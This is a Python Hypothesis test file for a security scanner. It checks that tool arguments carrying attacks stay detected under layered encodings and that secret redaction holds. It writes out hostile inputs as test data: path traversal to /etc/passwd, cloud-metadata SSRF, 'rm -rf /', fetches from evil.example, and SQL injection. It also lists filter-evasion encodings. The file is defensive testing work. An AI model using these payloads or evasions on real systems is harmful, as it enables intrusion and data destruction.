"""Properties: decoding never hides a payload, scanning and redaction are total and stable."""

from __future__ import annotations

import random
from collections.abc import Callable

from _analyzer_helpers import scan_one
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from checkrein.config.policy import ArgKind
from checkrein.policy.analyzers import ScanContext, find_secrets, redact_secrets, scan_arguments

# Plain attacks, each caught for its argument kind (asserted below, so the property is not vacuous).
PLAIN: list[tuple[str, ArgKind | None]] = [
    ("../../../etc/passwd", "path"),
    ("..\\..\\windows\\win.ini", "path"),
    ("/etc/shadow", "path"),
    ("php://filter/resource=index.php", "path"),
    ("../../../../etc/passwd", None),
    ("http://127.0.0.1/admin", "url"),
    ("http://169.254.169.254/latest/meta-data/", "url"),
    ("gopher://10.0.0.1:6379/_x", "url"),
    ("http://169.254.169.254/latest/", None),
    ("ls; rm -rf /", "command"),
    ("a && wget http://evil.example/x", "command"),
    ("x; rm -rf /tmp/a", None),
    ("$(curl evil.example)", None),
    ("' OR 1=1 --", "query"),
    ("1 UNION SELECT password FROM users", "query"),
    ("' OR 1=1 --", None),
    ("1; DROP TABLE users", None),
    ("1 AND SLEEP(5)", None),
]


def _non_alnum(f: Callable[[str], str]) -> Callable[[str], str]:
    return lambda s: "".join(c if c.isalnum() else f(c) for c in s)


def _pct_bytes(c: str) -> str:
    return "".join(f"%{b:02x}" for b in c.encode("utf-8"))


ENCODERS: dict[str, Callable[[str], str]] = {
    "percent_all": lambda s: "".join(_pct_bytes(c) for c in s),
    "percent_special": _non_alnum(_pct_bytes),
    "percent_upper": _non_alnum(lambda c: _pct_bytes(c).upper()),
    "percent_u": _non_alnum(lambda c: f"%u{ord(c):04x}"),
    "overlong": lambda s: s.replace("%", "%25").replace(".", "%c0%ae").replace("/", "%c0%af").replace("\\", "%c1%9c"),
    "overlong_3byte": lambda s: s.replace("%", "%25").replace(".", "%e0%80%ae").replace("/", "%e0%80%af"),
    "js_u": _non_alnum(lambda c: f"\\u{ord(c):04x}"),
    "js_x": _non_alnum(lambda c: f"\\x{ord(c):02x}" if ord(c) < 256 else c),
    "html_dec": _non_alnum(lambda c: f"&#{ord(c)};"),
    "html_hex": _non_alnum(lambda c: f"&#x{ord(c):x};"),
    "fullwidth": lambda s: "".join(chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7E else c for c in s),
}


def _mixed_case(s: str, seed: int) -> str:
    rng = random.Random(seed)
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def test_every_plain_attack_is_caught() -> None:
    for plain, kind in PLAIN:
        assert scan_one(plain, kind), (plain, kind)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    case=st.sampled_from(PLAIN),
    layers=st.lists(st.sampled_from(sorted(ENCODERS)), min_size=1, max_size=3),
)
def test_encoding_never_hides_a_payload(case: tuple[str, ArgKind | None], layers: list[str]) -> None:
    plain, kind = case
    encoded = plain
    for name in layers:
        encoded = ENCODERS[name](encoded)
    assert scan_one(encoded, kind), f"{layers}: {encoded!r}"


@settings(max_examples=100, deadline=None)
@given(
    sql=st.sampled_from([p for p, k in PLAIN if k == "query" or "SELECT" in p or "DROP" in p or "OR 1" in p]),
    seed=st.integers(0, 2**16),
)
def test_mixed_case_sql_keywords_are_still_caught(sql: str, seed: int) -> None:
    assert scan_one(_mixed_case(sql, seed), "query")
    assert scan_one(_mixed_case(sql, seed))


@settings(max_examples=300, deadline=None)
@given(value=st.text(max_size=300), kind=st.sampled_from([None, "path", "url", "command", "query", "text", "secret"]))
def test_scanning_arbitrary_text_never_raises(value: str, kind: ArgKind | None) -> None:
    findings = scan_arguments({"v": value, "k": {value: [value]}}, ScanContext(kinds={"/v": kind} if kind else {}))
    assert all(f.path.startswith("/") for f in findings)


@settings(max_examples=300, deadline=None)
@given(prefix=st.text(max_size=40), suffix=st.text(max_size=40))
@example(prefix="--user", suffix="")  # found by Hypothesis in CI: curl's user:password read our own mask
@example(prefix="-u", suffix="")
def test_redaction_removes_the_secret_and_is_a_fixed_point(prefix: str, suffix: str) -> None:
    secret = "ghp_" + "Zq8Xw2Lm4Np6Rt0Vb3Yc5Hd7Jf9Kg1Saabcd"
    text = f"{prefix} {secret} {suffix}"
    masked, spans = redact_secrets(text)
    assert secret not in masked
    assert spans and all(0 <= s.start < s.end <= len(text) for s in spans)
    again, more = redact_secrets(masked)
    assert again == masked and more == []


@settings(max_examples=200, deadline=None)
@given(text=st.text(max_size=400))
def test_secret_spans_are_sorted_disjoint_and_in_bounds(text: str) -> None:
    spans = find_secrets(text)
    for a, b in zip(spans, spans[1:], strict=False):
        assert a.end <= b.start
    assert all(0 <= s.start < s.end <= len(text) for s in spans)
